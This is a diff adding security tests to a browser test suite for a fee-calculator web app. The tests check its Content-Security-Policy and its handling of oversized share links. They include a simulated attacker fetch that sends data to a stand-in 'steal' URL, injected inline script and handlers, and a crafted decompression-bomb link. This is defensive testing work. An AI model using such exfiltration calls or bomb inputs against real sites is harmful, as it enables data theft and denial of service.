@@ -808,6 +808,58 @@ const tests = [
     },
   },
   {
+    name: 'under its Content-Security-Policy the page refuses injected inline script and other origins',
+    async run({ page, url, errors }) {
+      await openApp(page, url);
+      // The policy ships in the page itself, strict: no inline script, no other origin.
+      const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
+      const directives = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
+      assertEq(JSON.stringify(directives['script-src']), JSON.stringify(["'self'", "'wasm-unsafe-eval'"]), 'script-src');
+      assertEq(JSON.stringify(directives['default-src']), JSON.stringify(["'none'"]), 'default-src');
+      assertEq(JSON.stringify(directives['object-src']), JSON.stringify(["'none'"]), 'object-src');
+      assertEq(JSON.stringify(directives['base-uri']), JSON.stringify(["'none'"]), 'base-uri');
+      assert(!/unsafe-inline|'unsafe-eval'|https?:|\*|data:|blob:/.test(csp), `a loose source in the policy: ${csp}`);
+      // The app itself runs no inline script: every <script> is a file of this origin.
+      const inline = await page.evaluate(() => [...document.scripts].filter((s) => !s.src).length);
+      assertEq(inline, 0, 'inline <script> elements in the page');
+
+      // An attacker's markup that reached the page: an inline <script>, an inline event
+      // handler, and a request to another origin. None of them runs or leaves the page.
+      const outcome = await page.evaluate(async () => {
+        const violations = [];
+        document.addEventListener('securitypolicyviolation', (e) =>
+          violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
+        const s = document.createElement('script');
+        s.textContent = 'window.__injected = true;';
+        document.body.append(s);
+        const d = document.createElement('div');
+        d.setAttribute('onclick', 'window.__clicked = true;');
+        document.body.append(d);
+        d.click();
+        const remote = await fetch('https://example.org/steal?data=1').then(() => 'sent', () => 'blocked');
+        await new Promise((r) => setTimeout(r, 100));
+        return { injected: window.__injected === true, clicked: window.__clicked === true, remote, violations };
+      });
+      assertEq(outcome.injected, false, 'the injected inline script ran');
+      assertEq(outcome.clicked, false, 'the injected inline handler ran');
+      assertEq(outcome.remote, 'blocked', 'the request to another origin');
+      for (const v of ['script-src-elem inline', 'script-src-attr inline', 'connect-src https://example.org/steal?data=1']) {
+        assert(outcome.violations.includes(v), `no securitypolicyviolation "${v}" in ${JSON.stringify(outcome.violations)}`);
+      }
+      // Chromium reports each refusal on the console too (the fetch twice): expected here, and
+      // only here.
+      const refusals = (e) => /^console error: .*violates (the following|the document's) Content Security Policy/.test(e);
+      const deadline = Date.now() + 2_000;
+      while (errors.filter(refusals).length < 4 && Date.now() < deadline) await page.waitForTimeout(50);
+      const unexpected = errors.filter((e) => !refusals(e));
+      errors.length = 0;
+      errors.push(...unexpected);
+      // The app works on.
+      await field(page, FEE0).fill('5万');
+      await expectText(page, TOTAL, '¥660,000.00');
+    },
+  },
+  {
     name: 'the comparison highlights what differs between two saved scenarios',
     async run({ page, url }) {
       await openApp(page, url);
@@ -936,12 +988,21 @@ const tests = [
       await waitForStorage(p2, (s) => s[WORKING_KEY]?.includes(STARTER_NAME), 'the starter scenario autosaved');
       assert(!JSON.stringify(await storage(p2)).includes('坏链接'), 'nothing from the bad link is stored');
 
-      // A decompression bomb (1 MB of spaces in a few hundred bytes) is refused.
+      // A decompression bomb: a 55,000-character link whose scenario name holds 40 MiB of
+      // spaces. Inflation stops past the 1 MiB document limit and the link is called damaged.
+      const bomb = fragmentOf(`{"format":"contract-calc/scenario","version":1,"name":"${' '.repeat(40 << 20)}"}`);
+      assert(bomb.length < 65_536, `the bomb's link is ${bomb.length} characters`);
       const p3 = await newPage();
-      await p3.goto(`${url}#${fragmentOf(' '.repeat(1 << 20))}`);
+      await p3.goto(`${url}#${bomb}`);
       await p3.locator(TOTAL).waitFor();
-      await expectBanner(p3, '分享链接过大');
+      await expectBanner(p3, '分享链接已损坏');
       await expectText(p3, TOTAL, STARTER_TOTAL);
+      // A link over 65,536 characters is refused by its length, before any decoding.
+      const p4 = await newPage();
+      await p4.goto(`${url}#s1.${'A'.repeat(65_536)}`);
+      await p4.locator(TOTAL).waitFor();
+      await expectBanner(p4, '分享链接过长（超过 65,536 个字符）');
+      await expectText(p4, TOTAL, STARTER_TOTAL);
     },
   },
   {
